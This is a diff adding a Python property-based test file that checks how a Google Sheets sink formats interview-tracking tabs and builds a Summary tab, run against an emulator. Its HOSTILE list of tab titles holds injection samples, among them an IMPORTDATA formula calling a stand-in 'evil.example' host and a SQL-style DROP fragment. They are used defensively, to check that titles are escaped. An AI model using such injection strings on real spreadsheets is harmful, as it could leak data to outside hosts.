@@ -1,0 +1,265 @@
+"""The looks and the Summary as plain requests, on spreadsheets of every shape."""
+
+from __future__ import annotations
+
+import re
+from dataclasses import replace
+
+import msgspec
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from connector.interview import STAGE_WORDS
+from sinks.google_sheets.columns import Layout
+from sinks.google_sheets.dress import dress
+from sinks.google_sheets.ground import GROUND_FIELDS, Free, Ground
+from sinks.google_sheets.polish import dressing
+from sinks.google_sheets.reading import View
+from sinks.google_sheets.requests import column_letters
+from sinks.google_sheets.summary import Source, summarize
+from sinks.table import KEY, SPECS
+from tests.emulators.google.calls import Call, get
+from tests.emulators.google.cells import Formula, value_of
+from tests.emulators.google.errors import GoogleError
+from tests.emulators.google.model import Book, Tab, Tag
+from tests.emulators.google.requests import apply_all
+from tests.emulators.google.schema import discovery, read_body, read_mask
+
+GET = discovery().method("spreadsheets.get")
+WRITE = discovery().method("spreadsheets.batchUpdate")
+WIDTH = 14
+HOSTILE = ["=1+1", "*", "~", "'); DROP", '"&IMPORTDATA("https://evil.example")&"', "O'Brien", "@x", "Summary", "!A1:B2"]
+REFERENCE = re.compile(r"'(?:[^']|'')*'!\$?[A-Z]+(?::\$?[A-Z]+|\$\d+)")
+titles = st.one_of(st.sampled_from(HOSTILE), st.text("ab'!\"$;&=(", min_size=1, max_size=8))
+
+
+class Desk:
+    """A spreadsheet in memory with tabs of ours that are still bare."""
+
+    def __init__(self, places, *names):
+        """`places`: where each field has its column, in every tab."""
+        self.places = places
+        self.book = Book("desk", "Desk", "UTC", set(), tabs=[Tab.blank(0, "People's")])
+        for number, name in enumerate(names, start=1):
+            self.add(number, name)
+
+    def add(self, sheet_id, title):
+        tab = Tab.blank(sheet_id, title, 20, WIDTH)
+        self.book.tabs.append(tab)
+        for field, place in self.places.items():
+            tag = sheet_id * 100 + place + 1
+            self.book.add_tag(Tag(tag, "hf.col", field, "DOCUMENT", sheet_id, "COLUMNS", tab.column_lines[place]))
+
+    def seen(self, *sheet_ids):
+        for sheet_id in sheet_ids:
+            tags = {field: sheet_id * 100 + place + 1 for field, place in self.places.items()}
+            view = View(sheet_id, self.book.tab(sheet_id).title, "UTC", 20, WIDTH, [""] * WIDTH, {}, (), (), bare=True)
+            yield view, Layout(at=self.places, tags=tags)
+
+    def ground(self):
+        call = Call({}, {}, {}, read_mask(GET, GROUND_FIELDS), fields=True)
+        return msgspec.json.decode(msgspec.json.encode(get(self.book, call)), type=Ground)
+
+    def polish(self, *sheet_ids, per_position=False, ground=None):
+        body = dressing(list(self.seen(*sheet_ids)), ground or self.ground(), per_position=per_position)
+        draft = self.book.copy()
+        apply_all(draft, read_body(WRITE, msgspec.json.encode(body))["requests"])
+        self.book = draft
+
+    def numbers(self):
+        """Ids of everything that has one, tags apart."""
+        objects = [(tab.id, tab.objects) for tab in self.book.tabs]
+        names = {"filterViews": "filterViewId", "protectedRanges": "protectedRangeId", "charts": "chartId"}
+        inner = [each[name] for _, held in objects for kind, name in names.items() for each in held.get(kind, [])]
+        return [tab.id for tab in self.book.tabs] + inner
+
+    def cells(self, title):
+        rows = [[value_of(cell) for cell in row] for row in self.book.titled(title).rows]
+        return [[value for value in row if value is not None] for row in rows if any(row)]
+
+
+layouts = st.permutations(range(WIDTH)).flatmap(
+    lambda places: st.sets(st.sampled_from([name for name in SPECS if name != KEY]), max_size=10).map(
+        lambda names: dict(zip(sorted({*names, KEY}), places, strict=False))
+    )
+)
+USUAL = {name: place for place, name in enumerate(list(SPECS)[:12])}
+
+
+def formulas(desk, title):
+    return [value for row in desk.cells(title) for value in row if isinstance(value, Formula)]
+
+
+@settings(max_examples=60, deadline=None)
+@given(layouts, st.lists(titles, min_size=1, max_size=5, unique_by=str.casefold), st.booleans())
+def test_any_tabs_are_dressed_at_once_and_no_id_is_used_twice(places, names, per_position):
+    """Each body is what Google's discovery document allows, and every range lies in its tab."""
+    desk = Desk(places, *names)
+    desk.polish(*range(1, len(names) + 1), per_position=per_position)
+    numbers = desk.numbers()
+    assert len(set(numbers)) == len(numbers)
+    assert min(numbers[1:]) > 0
+    assert desk.book.titled("People's").objects == {}
+
+
+@settings(max_examples=30, deadline=None)
+@given(layouts, st.booleans())
+def test_a_second_time_is_refused_as_a_whole(places, per_position):
+    desk = Desk(places, "One", "Two")
+    old = desk.ground()
+    desk.polish(1, per_position=per_position)
+    before = desk.numbers()
+    for ground in (old, desk.ground()):
+        with pytest.raises(GoogleError, match="already exists"):
+            desk.polish(1, 2, per_position=per_position, ground=ground)
+    assert desk.numbers() == before
+
+
+def test_a_column_that_moved_since_refuses_it():
+    desk = Desk(USUAL, "One")
+    seen, ground = list(desk.seen(1)), desk.ground()
+    desk.book.tab(1).move("COLUMNS", 0, 1, 5)
+    with pytest.raises(GoogleError):
+        apply_all(desk.book, dressing(seen, ground, per_position=False)["requests"])
+
+
+def test_ids_in_use_are_gone_around():
+    ground = Ground(properties=None)
+    first = Free(ground).id("x")
+    desk = Desk(USUAL, "One")
+    desk.add(first, "has that very number")
+    assert Free(ground).id("x") == first
+    assert Free(desk.ground()).id("x") == first + 1
+
+
+@settings(max_examples=60, deadline=None)
+@given(layouts, st.lists(titles, min_size=1, max_size=3, unique_by=str.casefold), st.booleans())
+def test_no_formula_holds_a_text_that_is_not_ours(places, names, per_position):
+    """Without its references to cells a formula is the same whatever tabs are called."""
+    desk, plain = Desk(places, *names), Desk(places, *(f"Plain {place}" for place in range(len(names))))
+    for each in (desk, plain):
+        each.polish(*range(1, len(names) + 1), per_position=per_position)
+    bare = [
+        [REFERENCE.sub("@", text) for tab in each.book.tabs for text in _formulas_of(tab)] for each in (desk, plain)
+    ]
+    assert bare[0] == bare[1]
+    assert bool(bare[0]) == ("stage" in places)
+
+
+def _formulas_of(tab):
+    return [value for row in tab.rows for cell in row if isinstance(value := value_of(cell), Formula)]
+
+
+@settings(max_examples=40, deadline=None)
+@given(layouts.filter(lambda places: "stage" in places), st.sampled_from(HOSTILE))
+def test_whole_columns_are_counted_wherever_they_stand(places, title):
+    desk = Desk(places, title)
+    desk.polish(1)
+    summary = desk.book.tabs[-1].title
+    quoted = "'" + title.replace("'", "''") + "'"
+    letters = {name: column_letters(place) for name, place in places.items()}
+    for formula in formulas(desk, summary)[: len(STAGE_WORDS)]:
+        assert f"{quoted}!{letters['stage']}:{letters['stage']}" in formula
+        assert f"{quoted}!{letters[KEY]}:{letters[KEY]}" in formula
+
+
+def test_the_header_of_the_summary_has_the_words_that_are_counted():
+    desk = Desk(USUAL, "Interviews")
+    desk.polish(1)
+    header, totals, positions = desk.cells("Summary")
+    assert header == ["Position", *STAGE_WORDS.values(), "All"]
+    assert totals[0] == "All positions"
+    assert totals[1] == "=COUNTIFS('Interviews'!E:E;B$1;'Interviews'!L:L;\"?*\";'Interviews'!L:L;" + _other(
+        "Interviews"
+    )
+    assert positions[0].startswith("=IFERROR(SORT(UNIQUE(FILTER('Interviews'!D:D;")
+    assert len(positions) == len(header)
+
+
+def _other(title):
+    cell = f"'{title}'!L$1"
+    for sign in "~*?":
+        cell = f'SUBSTITUTE({cell};"{sign}";"~{sign}")'
+    return f'"<>"&{cell})'
+
+
+def test_every_position_with_a_tab_of_its_own_is_a_row_of_one_summary():
+    """Its name is a text; the first two came together, the third later."""
+    desk = Desk(USUAL, "=1+1", "Sales")
+    desk.polish(1, 2, per_position=True)
+    desk.add(3, "Legal")
+    desk.polish(3, per_position=True)
+    assert [tab.title for tab in desk.book.tabs if "Summary" in tab.title] == ["Summary"]
+    rows = desk.cells("Summary")
+    assert [row[0] for row in rows[1:]] == ["All positions", "=1+1", "Sales", "Legal"]
+    assert not isinstance(rows[2][0], Formula)
+    assert rows[1][1] == "=SUM(B3:B)"
+    assert rows[4][2].startswith("=COUNTIFS('Legal'!E:E;C$1;")
+
+
+def test_a_summary_that_people_deleted_stays_deleted():
+    desk = Desk(USUAL, "Sales", "Legal")
+    desk.polish(1, per_position=True)
+    desk.book.delete_tab(desk.book.titled("Summary"))
+    desk.polish(2, per_position=True)
+    assert [tab.title for tab in desk.book.tabs] == ["People's", "Sales", "Legal"]
+
+
+def test_a_summary_that_people_renamed_goes_on():
+    desk = Desk(USUAL, "Sales", "Legal")
+    desk.polish(1, per_position=True)
+    desk.book.titled("Summary").title = "Overview"
+    desk.polish(2, per_position=True)
+    assert [row[0] for row in desk.cells("Overview")][2:] == ["Sales", "Legal"]
+
+
+def test_a_title_in_use_gets_a_number():
+    desk = Desk(USUAL, "Interviews", "More", "SUMMARY")
+    desk.polish(1)
+    desk.polish(2)
+    assert [tab.title for tab in desk.book.tabs][-2:] == ["Summary (2)", "Summary (3)"]
+
+
+def test_without_a_stage_there_is_nothing_to_count_and_to_colour():
+    places = {name: place for name, place in USUAL.items() if name != "stage"}
+    [(view, layout)] = Desk(places, "One").seen(1)
+    ground = Ground(properties=None)
+    assert summarize([Source(view, layout)], ground, Free(ground), per_position=False) == []
+    kinds = {kind for request in dress(view, layout, Free(ground)) for kind in request}
+    assert kinds.isdisjoint({"addConditionalFormatRule", "addFilterView"})
+
+
+@pytest.mark.parametrize(("place", "frozen"), [(0, 1), (2, 3), (3, 0), (None, 0)])
+def test_the_name_stays_in_sight_as_long_as_that_leaves_room(place, frozen):
+    places = {KEY: 13} if place is None else {KEY: 13, "candidate_name": place}
+    desk = Desk(places, "One")
+    desk.polish(1)
+    assert desk.book.tab(1).grid == {"frozenRowCount": 1} | (
+        {"frozenColumnCount": frozen} if frozen else {"frozenColumnCount": 0}
+    )
+
+
+def test_the_chart_stands_over_the_line_of_all_positions():
+    desk = Desk(USUAL, "One")
+    desk.polish(1)
+    [chart] = desk.book.titled("Summary").objects["charts"]
+    basic = chart["spec"]["basicChart"]
+    [series] = basic["series"][0]["series"]["sourceRange"]["sources"]
+    assert (series["startRowIndex"], series["endRowIndex"]) == (1, 2)
+    assert series["endColumnIndex"] - series["startColumnIndex"] == len(STAGE_WORDS)
+
+
+def test_looks_begin_at_the_header_wherever_that_is():
+    [(view, layout)] = Desk(USUAL, "One").seen(1)
+    ground = Ground(properties=None)
+    free = Free(ground)
+    wanted = [
+        *dress(replace(view, header_row=3), layout, free),
+        *summarize([Source(replace(view, header_row=3), layout)], ground, free, per_position=False),
+    ]
+    texts = msgspec.json.encode(wanted).decode()
+    assert '"frozenRowCount":4' in texts
+    assert "'One'!L$4" in texts
+    starts = [each["repeatCell"]["range"]["startRowIndex"] for each in wanted if "repeatCell" in each]
+    assert set(starts[:-1]) == {3, 4}
